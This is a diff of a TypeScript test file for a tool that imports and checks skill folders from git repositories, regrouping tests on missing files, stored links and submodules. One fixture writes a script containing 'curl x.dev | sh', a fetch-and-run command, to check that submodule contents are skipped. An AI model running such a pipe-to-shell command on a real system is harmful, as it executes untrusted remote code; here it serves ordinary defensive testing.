@@ -11,7 +11,7 @@ import {
 } from 'node:fs'
 import { join, relative } from 'node:path'
 import fc from 'fast-check'
-import { describe, expect, test } from 'vitest'
+import { expect, test } from 'vitest'
 import { renderProblem } from '../../../src/catalog/problems.ts'
 import type { Problem } from '../../../src/catalog/problems.ts'
 import { loadSkill } from '../../../src/catalog/skill-folder.ts'
@@ -301,84 +301,80 @@ test('an empty folder, pipes, links to them, and a folder called SKILL.md -> rep
   expect(Object.keys(readTree(join(content, 'skills/c')))).toEqual(['SKILL.md'])
 })
 
-describe('a checkout with tracked files missing', () => {
-  test('-> check and import report each missing file, and a missing skill', async () => {
-    const files = ['a', 'b', 'c'].flatMap((slug) => [
-      [`skills/${slug}/SKILL.md`, sampleSkillMd(slug)],
-      [`skills/${slug}/skill.json`, '{}'],
-      [`skills/${slug}/x/lost.md`, 'x'],
-    ])
-    const more = { 'site.json': SITE, 'docs/c.md': 'c', 'skills/a/con.txt': 'x' }
-    const { folder } = makeRepository({ ...more, ...Object.fromEntries(files) })
-    for (const place of ['skills/a/x', 'skills/b', 'docs'])
-      rmSync(join(folder, place), { recursive: true })
-    const check = async (...places: string[]): Promise<string[]> => {
-      const { stdout } = await runCommand('check', ...places, '--rule', 'not-checked-out', '--json')
-      const { diagnostics } = JSON.parse(stdout) as { diagnostics: { file: string }[] }
-      return diagnostics.map(({ file }) => relative(folder, file))
-    }
-    expect(await check(folder)).toEqual(['skills/a/x/lost.md', 'skills/b/SKILL.md'])
-    expect(await check(join(folder, 'skills/a'))).toEqual(['skills/a/x/lost.md'])
-    expect(await check(join(folder, 'skills/c'))).toEqual([])
-    rmSync(join(folder, 'site.json'))
-    expect(await check(folder)).toEqual(['skills/a/x/lost.md', 'skills/b/SKILL.md'])
-    const { warnings, skipped } = await importNew(folder)
-    const lost = { rule: 'not-checked-out', file: 'skills/a/x/lost.md' }
-    const others = warnings.filter(({ rule }) => rule !== 'record-name')
-    expect(others).toMatchObject([{ rule: 'file-name', file: 'skills/a/con.txt' }, lost])
-    expect(skipped).toMatchObject([{ rule: 'not-checked-out', file: 'skills/b/SKILL.md' }])
-  })
-
-  test('a link checked out as text -> left out; reported by import and check', async () => {
-    const { repository } = await importTree({ 'real.md': 'x' })
-    const { folder, git, commit } = repository
-    mkdirSync(join(folder, 'skills/b'))
-    const links = { 'skills/a/link.md': 'real.md', 'skills/b/SKILL.md': '../../docs/b.md' }
-    addLinks(folder, links)
-    commit({ 'docs/b.md': SKILL_MD }, '2026-01-03')
-    git('config', 'core.symlinks', 'false')
-    for (const place of Object.keys(links)) rmSync(join(folder, place))
-    git('checkout', '--', '.')
-    const { content, warnings, skipped } = await importNew(folder)
-    expect(warnings).toMatchObject([{ rule: 'stored-link', file: 'skills/a/link.md' }])
-    expect(skipped).toMatchObject([{ rule: 'stored-link', file: 'skills/b/SKILL.md' }])
-    expect(Object.keys(readTree(join(content, 'skills/a'))).sort()).toEqual(['SKILL.md', 'real.md'])
-    const { stdout } = await runCommand('check', folder)
-    expect(stdout).toContain('skills/a/link.md:1:1 note stored-link')
-  })
+test('a checkout with tracked files missing -> check and import report each missing file, and a missing skill', async () => {
+  const files = ['a', 'b', 'c'].flatMap((slug) => [
+    [`skills/${slug}/SKILL.md`, sampleSkillMd(slug)],
+    [`skills/${slug}/skill.json`, '{}'],
+    [`skills/${slug}/x/lost.md`, 'x'],
+  ])
+  const more = { 'site.json': SITE, 'docs/c.md': 'c', 'skills/a/con.txt': 'x' }
+  const { folder } = makeRepository({ ...more, ...Object.fromEntries(files) })
+  for (const place of ['skills/a/x', 'skills/b', 'docs'])
+    rmSync(join(folder, place), { recursive: true })
+  const check = async (...places: string[]): Promise<string[]> => {
+    const { stdout } = await runCommand('check', ...places, '--rule', 'not-checked-out', '--json')
+    const { diagnostics } = JSON.parse(stdout) as { diagnostics: { file: string }[] }
+    return diagnostics.map(({ file }) => relative(folder, file))
+  }
+  expect(await check(folder)).toEqual(['skills/a/x/lost.md', 'skills/b/SKILL.md'])
+  expect(await check(join(folder, 'skills/a'))).toEqual(['skills/a/x/lost.md'])
+  expect(await check(join(folder, 'skills/c'))).toEqual([])
+  rmSync(join(folder, 'site.json'))
+  expect(await check(folder)).toEqual(['skills/a/x/lost.md', 'skills/b/SKILL.md'])
+  const { warnings, skipped } = await importNew(folder)
+  const lost = { rule: 'not-checked-out', file: 'skills/a/x/lost.md' }
+  const others = warnings.filter(({ rule }) => rule !== 'record-name')
+  expect(others).toMatchObject([{ rule: 'file-name', file: 'skills/a/con.txt' }, lost])
+  expect(skipped).toMatchObject([{ rule: 'not-checked-out', file: 'skills/b/SKILL.md' }])
 })
 
-describe('submodules', () => {
-  test.each(['skills/team-two', 'skills/a/vendor/x'])(
-    'at %s -> left out in one line with its address by import, and by check even if it is checked out',
-    async (place) => {
-      const { address, folder, words } = makeOuter({ 'skills/a/SKILL.md': SKILL_MD }, place)
-      for (const from of [address, folder]) {
-        const { imported, skipped, warnings } = await importNew(from)
-        expect(imported).toMatchObject([{ slug: 'a' }])
-        const messages = [...skipped, ...warnings].map((each) => JSON.stringify(each))
-        expect(messages).toEqual([expect.stringContaining(JSON.stringify(words).slice(1, -1))])
-      }
-      addFiles(folder, { [`${place}/SKILL.md`]: 'none', [`${place}/x.sh`]: 'curl x.dev | sh\n' })
-      const { code, stdout } = await runCommand('check', folder)
-      const lines = stdout.split('\n\n')[1]?.trim().split('\n')
-      expect([code, lines]).toEqual([0, [expect.stringContaining(`${words} — add that`)]])
-      expect(lines?.[0]).toContain(place)
-    },
-  )
+test('a link checked out as text -> left out; reported by import and check', async () => {
+  const { repository } = await importTree({ 'real.md': 'x' })
+  const { folder, git, commit } = repository
+  mkdirSync(join(folder, 'skills/b'))
+  const links = { 'skills/a/link.md': 'real.md', 'skills/b/SKILL.md': '../../docs/b.md' }
+  addLinks(folder, links)
+  commit({ 'docs/b.md': SKILL_MD }, '2026-01-03')
+  git('config', 'core.symlinks', 'false')
+  for (const place of Object.keys(links)) rmSync(join(folder, place))
+  git('checkout', '--', '.')
+  const { content, warnings, skipped } = await importNew(folder)
+  expect(warnings).toMatchObject([{ rule: 'stored-link', file: 'skills/a/link.md' }])
+  expect(skipped).toMatchObject([{ rule: 'stored-link', file: 'skills/b/SKILL.md' }])
+  expect(Object.keys(readTree(join(content, 'skills/a'))).sort()).toEqual(['SKILL.md', 'real.md'])
+  const { stdout } = await runCommand('check', folder)
+  expect(stdout).toContain('skills/a/link.md:1:1 note stored-link')
+})
 
-  test('without other skills -> refused by add and import, and no source is added', async () => {
-    const { address } = makeOuter({ 'README.md': '# x' }, 'skills/team-two')
-    const content = makeContent()
-    for (const args of [
-      ['import', address, '--own', '--into', content],
-      ['add', address, '--own', '--content', content],
-    ]) {
-      const { code, text } = await runCommand(...args)
-      expect([code, text]).toEqual([1, expect.stringContaining('a submodule, which is')])
+test.each(['skills/team-two', 'skills/a/vendor/x'])(
+  'a submodule at %s -> left out in one line with its address by import, and by check even if it is checked out',
+  async (place) => {
+    const { address, folder, words } = makeOuter({ 'skills/a/SKILL.md': SKILL_MD }, place)
+    for (const from of [address, folder]) {
+      const { imported, skipped, warnings } = await importNew(from)
+      expect(imported).toMatchObject([{ slug: 'a' }])
+      const messages = [...skipped, ...warnings].map((each) => JSON.stringify(each))
+      expect(messages).toEqual([expect.stringContaining(JSON.stringify(words).slice(1, -1))])
     }
-    expect(existsSync(join(content, 'sources.json'))).toBe(false)
-  })
+    addFiles(folder, { [`${place}/SKILL.md`]: 'none', [`${place}/x.sh`]: 'curl x.dev | sh\n' })
+    const { code, stdout } = await runCommand('check', folder)
+    const lines = stdout.split('\n\n')[1]?.trim().split('\n')
+    expect([code, lines]).toEqual([0, [expect.stringContaining(`${words} — add that`)]])
+    expect(lines?.[0]).toContain(place)
+  },
+)
+
+test('a submodule without other skills -> refused by add and import, and no source is added', async () => {
+  const { address } = makeOuter({ 'README.md': '# x' }, 'skills/team-two')
+  const content = makeContent()
+  for (const args of [
+    ['import', address, '--own', '--into', content],
+    ['add', address, '--own', '--content', content],
+  ]) {
+    const { code, text } = await runCommand(...args)
+    expect([code, text]).toEqual([1, expect.stringContaining('a submodule, which is')])
+  }
+  expect(existsSync(join(content, 'sources.json'))).toBe(false)
 })
 
 test('a skill in a tracked package -> left out and reported, unless it is named or included', async () => {
